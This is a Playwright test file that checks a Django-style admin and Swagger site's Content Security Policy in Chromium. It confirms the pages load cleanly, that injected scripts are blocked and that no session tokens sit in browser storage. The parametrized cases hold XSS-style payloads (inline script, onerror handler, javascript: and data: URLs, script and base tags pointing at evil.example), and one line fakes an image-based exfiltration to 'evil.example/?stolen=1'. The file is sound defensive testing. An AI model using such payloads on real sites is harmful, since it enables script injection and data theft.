"""The policies in a real browser: its pages load without a violation, and a script that was slipped in does not run."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from dataclasses import dataclass, field

import pytest
from playwright.sync_api import Page, sync_playwright

from tests.admin.test_in_browser import SWITCHES
from tests.processes.house import House

pytestmark = pytest.mark.services

CHROMIUM = shutil.which("chromium")
WHEEL_TURNS = 20
HEAR = "document.addEventListener('securitypolicyviolation', e => window.heard(e.violatedDirective + ' ' + e.blockedURI))"
PAGES = [
    "/admin/",
    "/admin/finance/document/",
    "/admin/finance/document/add/",
    "/admin/finance/document/work/",
    "/admin/finance/transaction/",
    "/admin/users/user/",
    "/admin/users/user/add/",
    "/admin/users/membership/add/",
    "/admin/users/auditevent/",
    "/api/v1/docs/",
]


@dataclass
class Desk:
    """A browser in which the demo's person is logged in, and the violations that it heard of."""

    page: Page
    house: House
    violations: list[str] = field(default_factory=list)

    def hear(self, violation: str) -> None:
        self.violations.append(violation)

    def open(self, path: str) -> Page:
        self.violations.clear()
        self.page.goto(f"http://127.0.0.1:{self.house.port}{path}", wait_until="networkidle")
        return self.page


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Desk]:
    with pytest.MonkeyPatch.context() as environment:
        environment.delenv("DATABASE_URL", raising=False)  # the demo is for the embedded profile
        with House(tmp_path_factory.mktemp("policy")) as house, sync_playwright() as playwright:
            for command in (("createcachetable",), ("collectstatic", "--no-input", "-v0"), ("demo",)):
                house.manage(*command)
            house.web(workers=1)
            browser = playwright.chromium.launch(executable_path=CHROMIUM, args=SWITCHES)
            desk = Desk(browser.new_page(), house)
            desk.page.expose_function("heard", desk.hear)
            desk.page.add_init_script(HEAR)
            log_in(desk)
            yield desk
            browser.close()


def log_in(desk: Desk) -> None:
    told = json.loads((desk.house.var / "demo.json").read_text(encoding="utf-8"))
    page = desk.open("/admin/")
    assert desk.violations == []
    page.fill("input[name=username]", told["login"])
    page.fill("input[name=password]", told["password"])
    page.click("button[type=submit]")
    page.wait_for_url("**/admin/")


@pytest.mark.parametrize("path", PAGES)
def test_a_page_loads_without_a_violation(desk: Desk, path: str) -> None:
    assert desk.open(path).title()
    assert desk.violations == []


def test_the_page_of_a_document_loads_without_a_violation(desk: Desk) -> None:
    ((document_id,),) = desk.house.sql("SELECT id FROM finance_document WHERE filename = %s", "thermal_receipt.jpg")
    desk.open(f"/admin/finance/document/{document_id}/change/")
    desk.page.wait_for_function("document.querySelector('.q-page img').naturalWidth > 0")
    assert desk.violations == []


def test_the_theme_of_the_back_office_still_works(desk: Desk) -> None:
    """Alpine runs: its expressions in the templates have shown or hidden what they decide about."""
    page = desk.open("/admin/")
    assert page.evaluate("typeof window.Alpine") == "object"
    assert page.evaluate("document.querySelectorAll('[x-data]').length") > 0


def test_swagger_shows_the_routes(desk: Desk) -> None:
    page = desk.open("/api/v1/docs/")
    page.wait_for_selector(".opblock-tag >> nth=3")
    assert page.locator(".opblock-tag").evaluate_all("tags => tags.map(tag => tag.dataset.tag)") == [
        "default",
        "auth",
        "finance",
        "users",
    ]
    page.click(".opblock-tag[data-tag=users]")  # the last group: Swagger draws only what stands in the window
    page.wait_for_selector(".opblock")
    seen: set[str] = set()
    for _ in range(WHEEL_TURNS):
        seen |= set(page.locator(".opblock .opblock-summary-path").evaluate_all("paths => paths.map(path => path.dataset.path)"))
        page.mouse.wheel(0, 400)
        page.wait_for_timeout(200)
    assert len(seen) > 20
    assert desk.violations == []


@pytest.mark.parametrize("path", ["/api/v1/docs/", "/admin/"])
@pytest.mark.parametrize(
    "slipped_in",
    [
        "const s = document.createElement('script'); s.text = 'window.ran = 1'; document.body.append(s)",
        "const i = document.createElement('i'); i.innerHTML = '<img src=x onerror=\"window.ran = 1\">'; document.body.append(i)",
        "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)",
        "const s = document.createElement('script'); s.src = 'data:text/javascript,window.ran=1'; document.body.append(s)",
        "const a = document.createElement('a'); a.href = 'javascript:window.ran=1'; document.body.append(a); a.click()",
        "const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b)",
    ],
    ids=["inline", "handler", "outside", "data", "address", "base"],
)
def test_what_is_slipped_into_a_page_does_not_run(desk: Desk, path: str, slipped_in: str) -> None:
    page = desk.open(path)
    page.evaluate(f"() => {{ {slipped_in} }}")
    page.wait_for_timeout(300)
    assert page.evaluate("window.ran") is None
    assert desk.violations


def test_a_picture_from_elsewhere_is_not_asked_for(desk: Desk) -> None:
    page = desk.open("/api/v1/docs/")
    page.evaluate("() => { new Image().src = 'https://evil.example/?stolen=1' }")
    page.wait_for_timeout(300)
    assert any(heard.startswith("img-src") for heard in desk.violations)


def test_no_token_lies_in_the_storage_of_the_browser(desk: Desk) -> None:
    page = desk.open("/admin/")
    kept = page.evaluate("JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage), document.cookie])")
    assert "sessionid" not in kept
    assert "eyJ" not in kept
